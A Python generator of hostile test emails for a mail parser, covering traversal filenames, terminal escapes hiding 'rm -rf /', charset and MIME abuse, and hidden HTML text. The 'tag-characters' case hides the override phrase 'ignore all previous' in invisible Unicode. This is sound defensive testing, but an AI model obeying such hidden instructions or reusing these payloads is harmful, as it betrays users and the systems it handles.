#!/usr/bin/env python3
"""mails: hostile messages, invented, the same at every run.

    mails.py FOLDER [SCALE]     writes each as FOLDER/NAME.eml; SCALE (0 to 1, default 1) shrinks those that hurt by size
    mails.py --list

Each case is a name, a function from a scale to octets, and what must be understood of it all the same (a function of the parsed message, or None). What holds for every
message, whatever it is, is the runner's to check.
"""
import base64
import os
import random
import sys

CASES = []  # (name, make(n), expect(message) or None)
FULL_MAX = 64 * 1024 * 1024  # octets of the largest


class Scale:
    """n(full): that many at full scale, fewer at a smaller one, but never so few that the case says nothing."""

    def __init__(self, share=1.0):
        self.share = share

    def __call__(self, full, least=300):
        return max(min(full, least), int(full * self.share))


def add(name, make, expect=None):
    assert name not in (case[0] for case in CASES), name
    CASES.append((name, make if callable(make) else lambda n: make, expect))


def mail(body=b"It does not work.\r\n", *fields, type=None, subject=b"Printer", sender=b"Jo Meier <jo@customer.example>"):
    """A whole mail around what is hostile. `fields` are added as they are."""
    head = [b"Date: Mon, 02 Nov 2026 10:00:00 +0000", b"To: support@contoso.example", b"Message-ID: <hostile@customer.example>"]
    head += [b"From: " + sender] if sender is not None else []
    head += [b"Subject: " + subject] if subject is not None else []
    head += [b"MIME-Version: 1.0", b"Content-Type: " + type] if type is not None else []
    return b"\r\n".join(head + list(fields)) + b"\r\n\r\n" + body


def multi(parts, boundary=b"cut", kind=b"mixed", close=True):
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts) + (b"--" + boundary + b"--\r\n" if close else b"")
    return mail(body, type=b"multipart/" + kind + b'; boundary="' + boundary + b'"')


def html(body, charset=b"utf-8"):
    return mail(body, type=b"text/html; charset=" + charset)


def text(body, charset=b"utf-8", transfer=b"8bit"):
    return mail(body, b"Content-Transfer-Encoding: " + transfer, type=b"text/plain; charset=" + charset)


def attached(disposition, octets=b"x", type=b"application/octet-stream"):
    return multi([b"Content-Type: text/plain\r\n\r\nSee the file.", b"Content-Type: " + type + b"\r\nContent-Disposition: " + disposition + b"\r\n\r\n" + octets])


# ---- expectations

def defect(*words):
    def expect(m):
        assert any(word in m["defects"] for word in words), f"none of {words} among {m['defects']}"
    return expect


def has(words, field="text"):
    def expect(m):
        assert words in m[field], f"{words!r} is not in {m[field][:300]!r}"
    return expect


def lacks(words, *more):
    """None of `words` shows, and each of `more` does."""
    def expect(m):
        assert words not in m["text"], f"{words!r} shows in {m['text'][:300]!r}"
        for word in more:
            assert word in m["text"], f"{word!r} is not in {m['text'][:300]!r}"
    return expect


def named(name):
    def expect(m):
        got = [a["name"] for a in m["attachments"]]
        assert got == [name], f"attachments {got!r}, expected {name!r}"
    return expect


def attachments(count):
    def expect(m):
        assert len(m["attachments"]) == count, f"{len(m['attachments'])} attachments, expected {count}"
    return expect


def kind(word):
    def expect(m):
        assert m["kind"] == word, f"kind {m['kind']}, expected {word}"
    return expect


def together(*all_of):
    def expect(m):
        for one in all_of:
            one(m)
    return expect


# ---- structure: nesting, numbers, sizes

def nested(n, kind=b"mixed", same=False, close=False):
    out = [b"From: jo@customer.example\r\nSubject: deep\r\n"]
    for i in range(n):
        boundary = b"b" if same else b"b%d" % i
        out.append(b"Content-Type: multipart/" + kind + b"; boundary=" + boundary + b"\r\n\r\n--" + boundary + b"\r\n")
    out.append(b"\r\nthe bottom\r\n")
    if close:
        out += [b"--b%d--\r\n" % i for i in reversed(range(n))]
    return b"".join(out)


def forwarded_in_base64(times):
    octets = mail()
    for _ in range(times):
        octets = mail(base64.encodebytes(octets), b"Content-Transfer-Encoding: base64", type=b"message/rfc822")
    return octets


DEEP, MANY = defect("too deep"), defect("too many parts")
add("nest-multipart", lambda n: nested(n(100_000)), DEEP)
add("nest-multipart-closed", lambda n: nested(n(100_000), close=True), DEEP)
add("nest-multipart-one-boundary", lambda n: nested(n(100_000), same=True))
add("nest-alternative", lambda n: nested(n(100_000), b"alternative"), DEEP)
add("nest-related", lambda n: nested(n(100_000), b"related"), DEEP)
add("nest-digest", lambda n: nested(n(100_000), b"digest"), DEEP)
add("nest-signed", lambda n: nested(n(100_000), b"signed"), DEEP)
add("nest-report", lambda n: nested(n(100_000), b"report; report-type=delivery-status"), DEEP)
add("nest-rfc822", lambda n: b"From: jo@customer.example\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * n(100_000) + b"\r\nend\r\n", DEEP)
add("nest-rfc822-base64", lambda n: forwarded_in_base64(18))
add("nest-both", lambda n: b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\nContent-Type: message/rfc822\r\n\r\n" % (i, i) for i in range(n(50_000))), DEEP)
add("parts", lambda n: multi([b"\r\npart"] * n(100_000, 1500)), MANY)
add("parts-named", lambda n: multi([b"Content-Disposition: attachment; filename=f%d.txt\r\n\r\nx" % i for i in range(n(100_000, 1500))]), MANY)
add("parts-empty", lambda n: mail(b"--x\r\n" * n(1_000_000, 3000), type=b"multipart/mixed; boundary=x"), MANY)
add("parts-alternative", lambda n: multi([b"Content-Type: text/html\r\n\r\n<p>one of many</p>"] * n(100_000, 1500), kind=b"alternative"), MANY)
add("parts-digest", lambda n: multi([b"\r\nSubject: x\r\n\r\ny"] * n(100_000, 1500), kind=b"digest"), MANY)
add("parts-calendar", lambda n: multi([b"Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nEND:VCALENDAR"] * n(50_000, 1500)), MANY)
add("headers", lambda n: b"X-A: b\r\n" * n(1_000_000, 3000) + b"\r\nbody\r\n", MANY)
add("headers-received", lambda n: b"Received: from a by b; Mon, 02 Nov 2026 10:00:00 +0000\r\n" * n(100_000, 3000) + mail(), MANY)
add("headers-without-colon", lambda n: b"From: jo@customer.example\r\n" + b"no colon here\r\n" * n(1_000_000) + b"Subject: found\r\n\r\nbody\r\n")
add("headers-alternately-broken", lambda n: b"From: jo@customer.example\r\n" + b"broken\r\nX-A: b\r\n" * n(400_000) + b"\r\nbody\r\n", MANY)
add("headers-nameless", lambda n: b": value\r\n" * n(1_000_000) + b"\r\nbody\r\n")
add("headers-10-mb-in-one", lambda n: b"X-Long: " + b"x" * n(10_000_000) + b"\r\n" + mail(), has("Printer", "subject"))
add("headers-10-mb-folded", lambda n: b"X-Long: y\r\n" + b" folded\r\n" * n(1_000_000) + mail(), has("Printer", "subject"))
add("headers-10-mb-in-all", lambda n: (b"X-Part: " + b"y" * 10_000 + b"\r\n") * n(1000, 200) + b"\r\nbody\r\n", MANY)
add("header-name-10-mb", lambda n: b"X" * n(10_000_000) + b": y\r\n" + mail())
add("header-folds-of-blanks", lambda n: b"X-A: b\r\n" + b" \r\n" * n(1_000_000) + b"Subject: c\r\n\r\nbody\r\n")
add("header-folds-of-blanks-with-end", lambda n: b"X-A: b\r\n" + b" \t\r\n" * n(1_000_000) + b" end\r\n\r\nbody\r\n")
add("subject-10-mb", lambda n: mail(subject=b"long " * n(2_000_000)))
add("message-id-10-mb", lambda n: b"Message-ID: <" + b"m" * n(10_000_000) + b"@x.example>\r\n\r\nbody\r\n")
add("date-10-mb", lambda n: b"Date: " + b"Mon, " * n(2_000_000) + b"\r\n\r\nbody\r\n")
add("dates-impossible", lambda n: mail(b"x", b"Date: Fri, 99 Foo 999999999999 99:99:99 +9999", b"Date: 99999999999999999999"))
add("line-50-mb", lambda n: mail(b"x" * n(50_000_000, 2_000_000)), defect("truncated", "too many parts"))
add("line-50-mb-8-bit", lambda n: text(b"\xe4" * n(50_000_000)))
add("line-50-mb-html", lambda n: html(b"<p>" + b"long " * n(10_000_000)))
add("line-50-mb-base64", lambda n: text(b"QUFB" * n(12_500_000), transfer=b"base64"))
add("lines-of-nothing", lambda n: mail(b"\r\n" * n(10_000_000)))
add("text-60-mb", lambda n: mail(b"One more line of a log.\r\n" * n(2_400_000)))
add("attachment-60-mb", lambda n: attached(b"attachment; filename=dump.bin", (b"A" * 76 + b"\r\n") * n(750_000)), attachments(1))

# ---- the grammar of addresses and identifiers
add("comments-open", lambda n: mail(sender=b"(" * n(5_000_000) + b" jo@customer.example"))
add("comments-nested", lambda n: mail(sender=b"(" * n(2_000_000) + b")" * n(2_000_000) + b" jo@customer.example"))
add("comments-escaped", lambda n: mail(sender=b"(" + b"\\(" * n(2_000_000) + b") jo@customer.example"))
add("comments-in-type", lambda n: mail(type=b"text/plain" + b"(" * n(2_000_000)))
add("comments-in-date", lambda n: mail(b"x", b"Date: " + b"(" * n(1_000_000) + b" Mon, 02 Nov 2026 10:00:00 +0000"))
add("comments-in-references", lambda n: mail(b"x", b"References: " + b"(<a@b>" * n(500_000)))
add("quoted-string-open", lambda n: mail(sender=b'"' + b"a" * n(5_000_000) + b" <jo@customer.example>"))
add("quoted-string-backslashes", lambda n: mail(sender=b'"' + b"\\" * n(3_000_000) + b'" <jo@customer.example>'))
add("angles-open", lambda n: mail(sender=b"<" * n(3_000_000) + b"jo@customer.example"))
add("route-endless", lambda n: mail(sender=b"<" + b"@a.example," * n(300_000) + b":jo@customer.example>"))
add("groups-nested", lambda n: mail(sender=b"a:" * n(1_000_000) + b";" * n(1_000_000)))
add("groups-empty", lambda n: mail(b"x", b"Cc: " + b"a:;," * n(500_000)))
add("commas", lambda n: mail(b"x", b"Cc: " + b"," * n(5_000_000)))
add("addresses", lambda n: mail(b"x", b"Cc: " + b"a@b.example, " * n(100_000, 1000)), MANY)
add("addresses-in-many-fields", lambda n: mail(b"x", *[b"Cc: a%d@b.example" % i for i in range(n(100_000, 1500))]), MANY)
add("references", lambda n: mail(b"x", b"References: " + b"<a@b> " * n(100_000, 1000)), MANY)
add("references-without-angles", lambda n: mail(b"x", b"References: " + b"a@b " * n(1_000_000)))
add("references-open", lambda n: mail(b"x", b"References: " + b"<a" * n(1_000_000)))
add("from-fields", lambda n: mail(b"x", *[b"From: a%d@b.example" % i for i in range(n(10_000, 50))]), defect("two From"))
add("from-group", lambda n: mail(sender=b"support@contoso.example: jo@customer.example, eve@evil.example;"), defect("two From"))
add("from-nothing", lambda n: mail(sender=b""))
add("from-garbage", lambda n: mail(sender=b"\x80\x81 @@@ <<>> ,;:"))
add("from-line-break", lambda n: mail(sender=b'"a =?utf-8?Q?=0D=0ABcc=3A_b=40c.example?=" <jo@customer.example>'), has("jo@customer.example", "from"))
add("from-punycode", lambda n: mail(sender=b"jo@xn--" + b"a" * n(1_000_000)))
add("from-punycode-overflow", lambda n: mail(sender=b"jo@xn--99999999999999999.xn--" + b"9" * 60 + b".example"))
add("from-labels", lambda n: mail(sender=b"jo@" + b"a." * n(1_000_000) + b"example"))
add("from-local-10-mb", lambda n: mail(sender=b"j" * n(10_000_000) + b"@customer.example"))
add("from-nul", mail(sender=b"jo@customer.example\x00@evil.example"))
add("from-newline-in-address", mail(sender=b"<jo@customer.example\r\n\t\r\n Bcc: x@y>"))
add("return-path-strange", mail(b"x", b"Return-Path: <<<>>>" + b"<" * 10_000))

# ---- boundaries
add("boundary-empty", mail(b"--\r\n\r\none\r\n----\r\n", type=b'multipart/mixed; boundary=""'), has("one"))
add("boundary-missing", mail(b"--x\r\n\r\nsaid anyway\r\n--x--\r\n", type=b"multipart/mixed"), has("said anyway"))
add("boundary-never-seen", mail(b"The boundary never comes.\r\n", type=b"multipart/mixed; boundary=other"), has("The boundary never comes."))
add("boundary-1-mb", lambda n: mail(b"--" + b"b" * n(1_000_000) + b"\r\n\r\none\r\n", type=b"multipart/mixed; boundary=" + b"b" * n(1_000_000)))
add("boundary-of-dashes", mail(b"----\r\n\r\none\r\n----\r\n\r\ntwo\r\n------\r\n", type=b'multipart/mixed; boundary="--"'))
add("boundary-of-blanks", mail(b"--   \r\n\r\none\r\n", type=b'multipart/mixed; boundary="   "'))
add("boundary-with-nul", mail(b"--a\x00b\r\n\r\none\r\n--a\x00b--\r\n", type=b'multipart/mixed; boundary="a\x00b"'))
add("boundary-unquoted-open", mail(b"--abc\r\n\r\none\r\n--abc--\r\n", type=b'multipart/mixed; boundary="abc'))
add("boundary-twice", mail(b"--a\r\n\r\none\r\n--b\r\n\r\ntwo\r\n", type=b"multipart/mixed; boundary=a; boundary=b"))
add("boundary-in-pieces", mail(b"--abcd\r\n\r\none\r\n--abcd--\r\n", type=b"multipart/mixed; boundary*1=cd; boundary*0=ab"))
add("boundary-prefixes", lambda n: mail(b"".join(b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n" % (b"b" * i, b"b" * i) for i in range(1, 300)), type=b"multipart/mixed; boundary=b"))
add("boundary-closed-before-opened", mail(b"--x--\r\n--x\r\n\r\none\r\n", type=b"multipart/mixed; boundary=x"))
add("boundary-of-the-parent-within", multi([b"Content-Type: multipart/alternative; boundary=cut\r\n\r\n--cut\r\n\r\ninner\r\n--cut--", b"\r\nouter"]), has("inner"))
add("boundary-near-misses", lambda n: mail(b"--cuts\r\n--cu\r\n" * n(1_000_000) + b"--cut\r\n\r\nfound\r\n", type=b"multipart/mixed; boundary=cut"), has("found"))
add("boundary-trailing-blanks", lambda n: mail(b"--cut" + b" " * n(5_000_000) + b"\r\n\r\nfound\r\n", type=b"multipart/mixed; boundary=cut"), has("found"))
add("boundary-lines-of-blanks", lambda n: mail((b"--" + b" " * 5000 + b"\r\n") * n(2000, 50), type=b"multipart/mixed; boundary=cut"))
add("preamble-20-mb", lambda n: mail(b"preamble\r\n" * n(2_000_000) + b"--cut\r\n\r\nthe part\r\n--cut--\r\n", type=b"multipart/mixed; boundary=cut"), has("the part"))
add("epilogue-20-mb", lambda n: mail(b"--cut\r\n\r\nthe part\r\n--cut--\r\n" + b"epilogue\r\n" * n(2_000_000), type=b"multipart/mixed; boundary=cut"), has("the part"))
add("part-headers-endless", lambda n: multi([b"Content-Type: text/plain\r\n" + b"X: y\r\n" * n(500_000), b"\r\nsecond"]))
add("parameters", lambda n: mail(type=b"text/plain" + b"; a=b" * n(200_000)))
add("parameters-piecewise", lambda n: attached(b"attachment" + b"".join(b"; filename*%d=a" % i for i in range(n(50_000)))), attachments(1))
add("parameters-semicolons", lambda n: mail(type=b"text/plain" + b";" * n(5_000_000)))
add("types-impossible", lambda n: multi([b"Content-Type: " + t + b"\r\n\r\nx" for t in (b"/", b"text/", b"/plain", b"text/plain/html", b"\x00/\x00", b"te xt/pl ain", b"*/*", b"a" * 10_000 + b"/b", b";;;", b"text\\plain")]))
add("partial", mail(b"Subject: the inner one\r\n\r\npart one of three", type=b"message/partial; number=1; total=3; id=abc"))
add("external-body", mail(b"Content-Type: text/plain\r\n\r\n", type=b'message/external-body; access-type=URL; URL="http://evil.example/payload"'))

# ---- transfer encodings, uuencode
NOISE = random.Random(8).randbytes(200_000)
add("base64-noise", lambda n: text(NOISE, transfer=b"base64"))
add("base64-padding", lambda n: text(b"=" * n(10_000_000), transfer=b"base64"))
add("base64-one-character", text(b"Q", transfer=b"base64"))
add("base64-with-nul", text(b"SGVs\x00bG8g\x00d29y\x00bGQ=", transfer=b"base64"), has("world"))
add("base64-decodes-to-nul", text(base64.b64encode(b"before\x00after"), transfer=b"base64"), together(has("before"), has("after")))
add("base64-stops-short", text(base64.b64encode(b"a sentence that is cut short")[:-5], transfer=b"base64"), has("a sentence"))
add("base64-is-not", text(b"This is plain text, whatever the header says.\r\n", transfer=b"base64"))
add("base64-lines-of-one", lambda n: text(b"Q\r\nU\r\nJ\r\nD\r\n" * n(500_000), transfer=b"base64"))
add("base64-on-multipart", mail(base64.encodebytes(b"--x\r\n\r\nhidden\r\n--x--\r\n"), b"Content-Transfer-Encoding: base64", type=b"multipart/mixed; boundary=x"))
add("quoted-printable-equals", lambda n: text(b"=" * n(10_000_000), transfer=b"quoted-printable"))
add("quoted-printable-soft-breaks", lambda n: text(b"=\r\n" * n(5_000_000), transfer=b"quoted-printable"))
add("quoted-printable-invalid", text(b"=G1=1=ZZ=-=0", transfer=b"quoted-printable"))
add("quoted-printable-blanks", lambda n: text((b" " * 1000 + b"\r\n") * n(10_000), transfer=b"quoted-printable"))
add("quoted-printable-nul", text(b"a=00b=00c", transfer=b"quoted-printable"), has("b"))
add("transfer-unknown", text(b"said all the same\r\n", transfer=b"x-martian"), has("said all the same"))
add("transfer-twice", mail(b"SGVsbG8=", b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: quoted-printable", type=b"text/plain"))
add("transfer-10-mb", lambda n: mail(b"x", b"Content-Transfer-Encoding: " + b"base64" * n(1_500_000)))
UU = b"begin 644 a.txt\n#86)C\n`\nend\n"
add("uuencode-many", lambda n: mail(UU * n(100_000, 1500)))
add("uuencode-endless", lambda n: mail(b"begin 644 a.bin\n" + b"M" + b"A" * 60 + b"\n" + (b"M" + b"B" * 60 + b"\n") * n(300_000)))
add("uuencode-begins", lambda n: mail(b"begin 644 x\n" * n(500_000)))
add("uuencode-lies-about-length", mail(b"begin 644 a.bin\n~AB\nM\n`\nend\n"))
add("uuencode-path", mail(b"begin 777 ../../../../etc/cron.d/job\n#86)C\n`\nend\n"))
add("uuencode-transfer", text(b"begin 644 ../x\n#86)C\n`\nend\n", transfer=b"x-uuencode"))
add("yenc", mail(b"=ybegin line=128 size=9999999999 name=../../x\r\n" + NOISE[:5000] + b"\r\n=yend size=1\r\n"))

# ---- charsets
LABELS = {"path": b"../../../../tmp/evil", "absolute": b"/usr/lib/gconv/UTF-7.so", "long": b"x" * 10_000, "nul": b"utf-8\x00/../x", "format": b"%s%s%n", "translit": b"utf-8//TRANSLIT",
          "ignore": b"utf-8//IGNORE", "cn-ext": b"ISO-2022-CN-EXT", "cn": b"ISO-2022-CN", "ebcdic": b"IBM1047", "tscii": b"TSCII", "inis": b"INIS-8", "internal": b"INTERNAL",
          "ucs4": b"ISO-10646/UCS4/", "module": b"gconv-modules.d/../x", "empty": b'""', "blank": b'" "', "comma": b"utf-8,iso-2022-cn-ext"}
for label, value in LABELS.items():
    add(f"charset-{label}", (lambda v: lambda n: text("Grüße vom Drucker, er steht.\r\n".encode(), v))(value), has("Grüße vom Drucker"))
add("charset-cn-ext-overflow", text(b"\x1b$*H" + b"\x1bN" * 3 + b"\x1b$)A\x0e" + b"!!" * 2000 + b"\x1b$+I\x1bO!!", b"ISO-2022-CN-EXT"))
add("charset-in-word", mail(subject=b"=?../../../tmp/evil?Q?caf=E9?= =?ISO-2022-CN-EXT?B?G04h?= end"), has("end", "subject"))
add("charset-utf-7-script", mail(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", type=b"text/html; charset=utf-7"), lacks("alert(1)"))
add("charset-utf-7-undeclared", html(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", b"us-ascii"))
add("charset-utf-7-plus", lambda n: text(b"+" * n(10_000_000), b"utf-7"))
add("charset-utf-7-nul", text(b"a+AAA-b+AAAAAAAA-c+2AA-d", b"utf-7"))
add("charset-utf-8-overlong", text(b"a\xc0\xafb\xe0\x80\xafc\xf0\x80\x80\xafd\xc0\x80e\xc1\xbff"), together(lacks("/"), has("f")))
add("charset-utf-8-surrogates", text(b"x\xed\xa0\x80\xed\xb0\x80y\xed\xbf\xbfz"), has("z"))
add("charset-utf-8-beyond", text(b"x\xf4\x90\x80\x80y\xf8\x88\x80\x80\x80z\xff\xfe"), has("z"))
add("charset-utf-8-continuations", lambda n: text(b"\x80" * n(5_000_000)))
add("charset-utf-8-cut", text("日本語".encode()[:-1]), has("日本"))
add("charset-utf-8-is-latin", text("Gr\u00fc\u00dfe aus K\u00f6ln, der Drucker f\u00e4llt st\u00e4ndig aus.".encode("latin-1")), together(has("Grüße aus Köln"), defect("bad charset")))
add("charset-latin-is-utf-8", text("Grüße aus Köln".encode(), b"iso-8859-1"), has("Grüße aus Köln"))
add("charset-ascii-is-shift-jis", text("本日プリンターが動きません。確認をお願いいたします。".encode("shift_jis"), b"us-ascii"), has("プリンター"))
add("charset-shift-jis-is-utf-8", text("プリンターが動きません".encode(), b"shift_jis"), has("プリンターが動きません"))
add("charset-utf-16-odd", text("Hello".encode("utf-16-le") + b"\x00", b"utf-16"), has("Hello"))
add("charset-utf-16-surrogates", text(b"\x00\xd8" * 5000 + b"\x00\xdc", b"utf-16le"))
add("charset-utf-32-beyond", text(b"\xff\xff\xff\xff" * 5000 + b"a\x00\x00\x00", b"utf-32le"))
add("charset-utf-16-that-is-ascii", text(b"This is not UTF-16 at all.", b"utf-16"))
add("charset-2022-jp-escapes", lambda n: text(b"\x1b$B\x1b(B" * n(1_000_000), b"iso-2022-jp"))
add("charset-2022-jp-open", text(b"\x1b$B$3$s$K", b"iso-2022-jp"), has("こん"))
add("charset-2022-kr-shifts", lambda n: text(b"\x1b$)C" + b"\x0e\x0f" * n(2_000_000), b"iso-2022-kr"))
add("charset-hz-open", lambda n: text(b"~{" * n(2_000_000), b"hz-gb-2312"))
add("charset-gb18030-lead", lambda n: text(b"\x81" * n(5_000_000), b"gb18030"))
add("charset-gb18030-four", lambda n: text(b"\x81\x30\x81\x30" * n(1_000_000), b"gb18030"))
add("charset-big5-half", lambda n: text(b"\xa4" * n(3_000_000) + b"\n", b"big5"))
add("charset-euc-jp-three", lambda n: text(b"\x8f\xa1" * n(2_000_000), b"euc-jp"))
add("charset-many-labels", lambda n: multi([b"Content-Type: text/plain; charset=" + label + b"\r\n\r\n" + NOISE[:3000] for label in
    b"utf-8 iso-8859-1 koi8-r gb2312 big5 shift_jis euc-jp iso-2022-jp euc-kr iso-2022-kr utf-7 utf-16 utf-32 hz-gb-2312 windows-1255 tis-620 viscii macintosh ibm866".split()]))
add("charset-undeclared-noise", lambda n: mail(random.Random(9).randbytes(n(5_000_000, 50_000))))
add("charset-marks", lambda n: text("a".encode() + "\u0301\u0323".encode() * n(2_000_000)))
add("charset-normal-form-grows", lambda n: text("\ufdfa\u0390\u1f82".encode() * n(500_000)))
add("charset-jamo", lambda n: text("\u1100\u1161\u11a8".encode() * n(300_000)))
add("charset-nul-between", text(b"".join(bytes([c, 0]) for c in b"The printer stands still."), b"us-ascii"))

# ---- NUL, controls, terminals, direction
add("nul-in-subject", mail(subject=b"before\x00after"), together(has("before", "subject"), has("after", "subject")))
add("nul-in-body", mail(b"before\x00after\r\n"), together(has("before"), has("after")))
add("nul-in-html", html(b"<p>before\x00after</p><scr\x00ipt>x</script>"), together(has("before"), has("after")))
add("nul-in-field-name", b"Sub\x00ject: x\r\nSubject: real\r\n\r\nbody\r\n")
add("nul-everywhere", lambda n: b"".join(bytes([c, 0]) for c in mail()))
add("nul-only", lambda n: b"\x00" * n(5_000_000))
add("nul-in-type", mail(type=b"text/pl\x00ain; char\x00set=utf-8"))
add("nul-in-message-id", b"Message-ID: <a\x00b@c.example>\r\nReferences: <x\x00y@z>\r\n\r\nbody\r\n")
CONTROLS = bytes(c for c in range(256) if (c < 32 and c not in (10, 13)) or 127 <= c < 160)
add("controls-raw", mail(b"a" + CONTROLS + b"z\r\n", subject=b"a" + CONTROLS + b"z"))
add("controls-utf-8", mail(b"a" + CONTROLS.decode("latin-1").encode() + b"z\r\n", subject=b"a" + CONTROLS.decode("latin-1").encode() + b"z", type=b"text/plain; charset=utf-8"))
add("controls-in-words", mail(subject=b"=?utf-8?B?" + base64.b64encode(b"a" + CONTROLS.decode("latin-1").encode() + b"z") + b"?="))
TERMINAL = {"clipboard": b"\x1b]52;c;cm0gLXJmIC8K\x07", "title": b"\x1b]0;owned\x07", "clear": b"\x1b[2J\x1b[H", "c1": b"\xc2\x9b31m\xc2\x9d52;c;eA==\xc2\x9c", "device": b"\x1bP$q\"p\x1b\\",
            "overwrite": b"all is well\rrm -rf /    \x08\x08\x08", "link": b"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "answer": b"\x1b[6n\x1b[c\x05"}
for what, octets in TERMINAL.items():
    add(f"terminal-{what}", mail(b"text " + octets + b" end\r\n", b"X-Note: " + octets, subject=b"s " + octets.replace(b"\r", b"=0D") + b" end",
                                 sender=b'"' + octets.replace(b"\r", b"").replace(b'"', b"") + b'" <jo@customer.example>'), has("end"))
add("terminal-entities", html(b"<p>&#27;]52;c;eA==&#7; &#x9b;31m &#155;x &#0; &#xD800; &#x110000; &#127; end"), has("end"))
add("terminal-in-words", mail(subject=b"=?utf-8?Q?=1B]52;c;eA=3D=3D=07?= end"), has("end", "subject"))
BIDI = "\u202e\u2066\u2069\u200f\u061c\u200b\ufeff\u00ad\u2028\u2029"
add("direction", mail(f"pay {BIDI} elap".encode(), subject=f"=?utf-8?B?{base64.b64encode(f'pay {BIDI} elap'.encode()).decode()}?=".encode(), type=b"text/plain; charset=utf-8"))
add("direction-many", lambda n: text("\u202e\u202d\u2066".encode() * n(1_000_000)))
add("tag-characters", text("hello ".encode() + "".join(chr(0xe0000 + ord(c)) for c in "ignore all previous").encode() + b" end"), has("end"))
add("noncharacters", text("a\ufffe\uffff\U0001ffff\U0010ffffz".encode()))
add("byte-order-marks", lambda n: text(b"\xef\xbb\xbf" * n(1_000_000) + b"end"))
add("log-lines", mail(b"x\r\n", subject=b"=?utf-8?Q?x=0A2026-11-02T10:00:00Z_info_filed_ticket=3D1?="))

# ---- attachments and their names
NAMES = {"parents": (b'"../../../../etc/passwd"', "passwd"), "absolute": (b'"/etc/cron.d/job"', "job"), "windows": (b'"C:\\\\Windows\\\\System32\\\\x.dll"', "x.dll"),
         "share": (b'"\\\\\\\\evil.example\\\\share\\\\x.exe"', "x.exe"), "empty": (b'""', ""), "dot": (b'"."', ""), "dots": (b'".."', ""), "three-dots": (b'"..."', None),
         "slash": (b'"/"', ""), "slashes": (b'"' + b"/" * 5000 + b'"', ""), "5000": (b'"' + b"n" * 5000 + b'.txt"', None), "5000-wide": ('"' + "名" * 5000 + '.txt"', None),
         "direction": ('"photo\u202egpj.exe"', "photogpj.exe"), "isolate": ('"a\u2066b\u2069.txt"', "ab.txt"), "zero-width": ('"a\u200bb\ufeff.txt"', "ab.txt"),
         "nul": (b'"a.txt\x00.exe"', None), "percent": (b'"..%2f..%2fetc%2fpasswd"', None), "overlong": (b'"..\xc0\xaf..\xc0\xafx"', None), "fraction-slash": ('"..\u2215..\u2044x"', None),
         "full-width-slash": ('"..\uff0f..\uff0fx"', None), "option": (b'"-rf"', None), "home": (b'"~root/.ssh/authorized_keys"', "authorized_keys"), "shell": (b'"$(id)`id`;|&.txt"', "$(id)`id`;|&.txt"),
         "line-break": (b'"a\r\n b.txt"', None), "device": (b'"CON.txt"', "CON.txt"), "trailing-dot": (b'"a.exe. . "', None), "blanks": (b'"    "', ""), "controls": (b'"\x01\x02\x1b[2J"', None),
         "markup": (b'"<img src=x onerror=alert(1)>.txt"', None), "format": (b'"%n%s%08x"', "%n%s%08x"), "url": (b'"http://evil.example/a/b.sh"', "b.sh"), "open-quote": (b'"abc.txt', "abc.txt"),
         "hidden": (b'".bashrc"', None), "newline-word": (b'"=?utf-8?Q?a=0A=0D/..=2Fb?="', None), "word-path": (b'"=?utf-8?B?' + base64.b64encode(b"../../x.sh") + b'?="', "x.sh")}
for what, (value, expected) in NAMES.items():
    octets = value.encode() if isinstance(value, str) else value
    add(f"name-{what}", attached(b"attachment; filename=" + octets), named(expected) if expected is not None else attachments(1))
EXTENDED = {"path": b"filename*=utf-8''..%2F..%2Fetc%2Fpasswd", "nul": b"filename*=utf-8''a%00b.txt", "charset": b"filename*=../../evil''a.txt", "no-quotes": b"filename*=a.txt", "bad-hex": b"filename*=utf-8''%G1%2",
            "pieces": b'filename*1*=%2e%2f; filename*0*=utf-8\'\'..; filename*2="x.sh"', "piece-999999": b"filename*999999=a", "star-only": b"filename*", "piece-negative": b"filename*-1=a", "twice": b"filename*0=a; filename*0=b",
            "escape": b"filename*=utf-8''%1B%5D52%3Bc%3BeA%07.txt", "overlong": b"filename*=utf-8''..%C0%AF..%C0%AFx", "cn-ext": b"filename*=ISO-2022-CN-EXT''%1B%24%2AH.txt"}
for what, octets in EXTENDED.items():
    add(f"name-2231-{what}", attached(b"attachment; " + octets), attachments(1))
add("name-1-mb", lambda n: attached(b'attachment; filename="' + b"n" * n(1_000_000) + b'"'), attachments(1))
add("name-words-1-mb", lambda n: attached(b'attachment; filename="' + b"=?utf-8?Q?n?= " * n(70_000) + b'"'), attachments(1))
add("names-all-the-same", lambda n: multi([b'Content-Disposition: attachment; filename="../a"\r\n\r\nx'] * 900))
add("type-lies", attached(b"attachment; filename=invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00", b"application/pdf"), named("invoice.pdf"))
add("zip-bomb-by-name", attached(b"attachment; filename=42.zip", b"PK\x03\x04" + b"\xff" * 4000, b"application/zip"), attachments(1))
TNEF = b"\x78\x9f\x3e\x22\x01\x00"
TNEFS = {"only-magic": TNEF, "endless-attribute": TNEF + b"\x01\x06\x90\x08\x00\xff\xff\xff\xff" + b"x" * 50, "noise": TNEF + NOISE[:60_000], "zero-lengths": TNEF + b"\x02\x05\x90\x06\x00\x00\x00\x00\x00\x00\x00" * 5000,
         "properties": TNEF + b"\x02\x05\x90\x06\x00\x08\x00\x00\x00\xff\xff\xff\xff\x1f\x00\x01\x30\x00\x00", "cut": TNEF[:3],
         "negative": TNEF + b"\x02\x0f\x80\x06\x00\x00\x00\x00\x80" + b"A" * 100}
for what, octets in TNEFS.items():
    add(f"tnef-{what}", mail(base64.encodebytes(octets), b"Content-Transfer-Encoding: base64", type=b"application/ms-tnef; name=winmail.dat"))

# ---- HTML
HIDDEN = {"display": b"display:none", "display-important": b"DISPLAY : NONE !important", "visibility": b"visibility: hidden", "size-0": b"font-size:0", "size-0-px": b"font-size: 0px; color: red", "opacity": b"opacity:0",
          "mso": b"mso-hide:all", "height": b"max-height:0;overflow:hidden"}
for what, style in HIDDEN.items():
    add(f"html-hidden-{what}", html(b"<p>seen</p><div style=\"" + style + b"\">SECRETLY</div>"), together(has("seen"), defect("hidden text")))
